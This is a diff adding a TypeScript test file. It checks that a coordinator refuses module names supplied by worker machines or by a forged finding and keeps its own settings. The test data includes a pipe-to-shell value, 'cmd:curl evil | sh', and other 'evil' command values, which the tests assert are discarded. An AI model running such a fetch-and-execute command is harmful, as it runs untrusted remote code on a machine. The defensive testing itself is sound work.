@@ -1,0 +1,54 @@
+import { expect, test } from 'vitest';
+import { exampleFinding } from '../case/fixtures/example-finding.ts';
+import { namedSubject } from './named-subject.ts';
+import type { MachineStanding } from './standing.ts';
+
+const campaign = { subject: { name: 'mine', version: '1', kernels: [] }, references: [] };
+
+function machine(module: string | null): MachineStanding {
+  return {
+    id: 'a',
+    name: 'host-1',
+    slots: 1,
+    cases: 0,
+    seconds: 0,
+    rate: 0,
+    job: null,
+    node: 'v20',
+    v8: '11',
+    platform: 'linux x64',
+    cpu: 'one',
+    module,
+  };
+}
+
+test.each([
+  ['./kernels.ts', './kernels.ts'],
+  [null, null],
+  ['cmd:curl evil | sh', null],
+  ['./evil.py', null],
+])('of a machine that names %j the name is %j', (module, shown) => {
+  const named = namedSubject({ subject: null }, campaign);
+  named.hear([]);
+  expect(named.isKnown).toBe(false);
+  named.hear([machine(module)]);
+  named.hear([machine('./another.ts')]);
+  expect(named.setup).toEqual({ subject: shown });
+});
+
+test('the settings of the coordinator stand before what any machine says', () => {
+  const named = namedSubject({ subject: 'cmd:./kit', connection: { python: 'python3' } }, campaign);
+  named.hear([machine('./kernels.ts')]);
+  expect(named.setup).toEqual({ subject: 'cmd:./kit', connection: { python: 'python3' } });
+});
+
+test('a forged finding names no program: its subject and references are the campaign’s', () => {
+  const named = namedSubject({ subject: null }, campaign);
+  const forged = exampleFinding({
+    subject: { name: 'mine', version: '1', module: 'cmd:evil', connection: { python: '/evil' } },
+    references: [
+      { name: 'own', version: '1', engine: null, available: true, reason: null, module: 'cmd:evil' },
+    ],
+  });
+  expect(JSON.stringify(named.nameIn(forged))).not.toContain('evil');
+});
